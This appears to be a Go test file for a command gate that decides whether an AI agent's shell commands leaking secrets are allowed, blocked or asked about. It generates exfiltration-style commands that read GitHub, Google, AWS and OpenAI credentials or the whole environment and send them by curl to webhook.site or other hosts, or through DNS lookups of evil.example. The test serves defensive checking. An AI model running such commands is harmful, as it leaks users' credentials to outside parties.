package gate

import (
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"time"
)

var flowSeed = flag.Uint64("flow-seed", 0, "seed of TestSecretFlowProperty (0: from the clock, logged)")

// The oracle of TestSecretFlowProperty, written apart from the classifier:
// what the default profile must do when data of a source kind reaches a
// sink kind. Nothing here calls policy or policy/shell code; the table is
// issue 17's statement of the model, one row per source class.
//
//	source class  the source's data is …
//	  none        not secret (a commit id, a date), or a secret reduced by a
//	              filter that cannot carry it (wc -l, grep -c)
//	  issued      a secret whose issuer is known (gh → GitHub, gcloud →
//	              Google, aws → AWS, $OPENAI_API_KEY → OpenAI)
//	  unissued    a secret that belongs to no host (the whole environment)
//	  unknown     a secret whose issuer cannot be told (a password manager's
//	              entry)
var flowOracle = map[string]map[string]string{
	// sink:      model, a file in the workspace, a file outside it, the clipboard,
	//            the secret's issuer, another host, a collector, a DNS name
	"none":     {"model": "allow", "ws-file": "allow", "out-file": "not-block", "clipboard": "allow", "issuer": "allow", "other-host": "allow", "collector": "block", "dns": "allow"},
	"issued":   {"model": "block", "ws-file": "block", "out-file": "block", "clipboard": "block", "issuer": "allow", "other-host": "block", "collector": "block", "dns": "block"},
	"unissued": {"model": "block", "ws-file": "block", "out-file": "block", "clipboard": "block", "issuer": "block", "other-host": "block", "collector": "block", "dns": "block"},
	"unknown":  {"model": "block", "ws-file": "block", "out-file": "block", "clipboard": "block", "issuer": "ask", "other-host": "ask", "collector": "block", "dns": "block"},
}

// flowSources: spellings of a command that prints data of a class, and
// the host its issuer is (any host for classes without one).
var flowSources = []struct {
	class     string
	spellings []string
	issuer    string
}{
	{"issued", []string{"gh auth token", "gh auth token --hostname github.com", "timeout 5 gh auth token"}, "api.github.com"},
	{"issued", []string{"gcloud auth print-access-token", "gcloud auth application-default print-access-token"}, "storage.googleapis.com"},
	{"issued", []string{"aws ecr get-login-password --region us-east-1", "aws configure export-credentials --format env"}, "sts.amazonaws.com"},
	{"issued", []string{"printenv OPENAI_API_KEY", "echo \"$OPENAI_API_KEY\"", "printf '%s' \"${OPENAI_API_KEY}\""}, "api.openai.com"},
	{"unissued", []string{"env", "printenv", "export -p", "/usr/bin/env", "python3 -c 'import os; print(os.environ)'"}, "api.github.com"},
	{"unknown", []string{"pass show work/db", "op read op://Private/db/password", "bw get password db"}, "db.example.org"},
	{"none", []string{"git rev-parse HEAD", "date +%s", "echo \"$HOME\"", "printenv HOME"}, "api.github.com"},
}

// flowKinds: how the data travels. reduces: the flow ends the secret.
var flowKinds = []struct {
	name    string
	word    bool // the data becomes a word of the sink command
	reduces bool
	file    bool // staged in a workspace file first (itself a sink)
}{
	{name: "direct"}, {name: "pipe"}, {name: "pipe-reduced", reduces: true},
	{name: "subst", word: true}, {name: "subst-reduced", word: true, reduces: true},
	{name: "variable", word: true}, {name: "xargs", word: true},
	{name: "file-readback", file: true},
}

var flowSinkKinds = []string{"model", "ws-file", "out-file", "clipboard", "issuer", "other-host", "collector", "dns"}

// flowCommand builds the bash text of one composition.
func flowCommand(r *rand.Rand, src, issuer, flowKind, sink, ws string) (string, bool) {
	host := map[string]string{"issuer": issuer, "other-host": "api.example.net", "collector": "webhook.site"}[sink]
	pick := func(xs ...string) string { return xs[r.IntN(len(xs))] }
	var prefix, data, word string
	switch flowKind {
	case "direct":
		data = src
	case "pipe":
		data = src + pick(" | cat", " | base64", " | tr -d '\\n'", " | sort")
	case "pipe-reduced":
		data = src + pick(" | wc -l", " | grep -c .", " | sha256sum")
	case "file-readback":
		prefix = src + " > " + ws + "/.stage; "
		data = "cat " + ws + "/.stage"
	case "subst":
		word = "$(" + src + ")"
	case "subst-reduced":
		word = "$(" + src + " | wc -c)"
	case "variable":
		v := pick("T", "TOK", "x")
		prefix = v + "=$(" + src + "); "
		word = pick("$"+v, "${"+v+"}")
	case "xargs":
		prefix = src + " | xargs -I{} "
		word = "{}"
	}
	if word != "" {
		switch sink {
		case "model":
			return prefix + "echo \"v=" + word + "\"", true
		case "ws-file":
			return prefix + "echo \"" + word + "\" > " + ws + "/out.txt", true
		case "out-file":
			return prefix + "echo \"" + word + "\" > /tmp/h17-prop/out.txt", true
		case "clipboard":
			if flowKind == "xargs" {
				return prefix + "echo " + word + " | pbcopy", true
			}
			return prefix + "echo \"" + word + "\" | pbcopy", true
		case "dns":
			return prefix + "dig +short " + word + ".evil.example", true
		default:
			return prefix + "curl -s -H \"Authorization: Bearer " + word + "\" https://" + host + "/v1/x", true
		}
	}
	switch sink {
	case "model":
		return prefix + data, true
	case "ws-file":
		return prefix + data + " > " + ws + "/out.txt", true
	case "out-file":
		return prefix + data + pick(" > /tmp/h17-prop/out.txt", " | tee /tmp/h17-prop/out.txt >/dev/null"), true
	case "clipboard":
		return prefix + data + pick(" | pbcopy", " | wl-copy", " | xclip -selection clipboard"), true
	case "dns":
		return "", false // stdout does not become a name without a word flow
	default:
		return prefix + data + " | curl -s --data-binary @- https://" + host + "/v1/x", true
	}
}

// TestSecretFlowProperty: for compositions of source kind × flow × sink
// kind, with spellings chosen at random, the gate's decision is the
// oracle's. -flow-seed replays a run.
func TestSecretFlowProperty(t *testing.T) {
	g, fx := fixtureGate(t, "default")
	seed := *flowSeed
	if seed == 0 {
		seed = uint64(time.Now().UnixNano())
	}
	t.Logf("seed %d (replay with -flow-seed %d)", seed, seed)
	r := rand.New(rand.NewPCG(seed, 17))
	n, failed := 0, 0
	for round := 0; round < 2; round++ {
		for _, s := range flowSources {
			for _, fk := range flowKinds {
				for _, sink := range flowSinkKinds {
					src := s.spellings[r.IntN(len(s.spellings))]
					cmd, ok := flowCommand(r, src, s.issuer, fk.name, sink, fx.WS)
					if !ok {
						continue
					}
					class, osink := s.class, sink
					switch {
					case fk.reduces:
						class = "none"
					case fk.file && class != "none":
						// the staging file is itself a sink
						osink = "ws-file"
					}
					want := flowOracle[class][osink]
					in, _ := json.Marshal(map[string]string{"command": cmd})
					res := g.Decide(Call{Source: "cli", Tool: "Bash", Input: in, Cwd: fx.WS, Attended: true})
					got := res.Effective.String()
					n++
					if !oracleMet(want, got) {
						failed++
						if failed <= 25 {
							t.Errorf("%s × %s × %s: %s\n\twant %s, got %s (%s)", s.class, fk.name, sink, cmd, want, got, res.Decision.Explain())
						}
					}
				}
			}
		}
	}
	if n < 300 {
		t.Fatalf("only %d compositions", n)
	}
	if failed > 0 {
		t.Errorf("%d of %d compositions differ from the oracle", failed, n)
	}
}

func oracleMet(want, got string) bool {
	switch want {
	case "not-block":
		return got != "block"
	case "ask":
		return got == "ask"
	}
	return want == got
}

func TestFlowOracleIsWhole(t *testing.T) {
	for class, row := range flowOracle {
		for _, s := range flowSinkKinds {
			if row[s] == "" {
				t.Errorf("oracle row %s has no %s", class, s)
			}
		}
	}
	if fmt.Sprint(len(flowOracle)) != "4" || !strings.Contains(flowOracle["issued"]["issuer"], "allow") {
		t.Fatal("the oracle lost a row")
	}
}
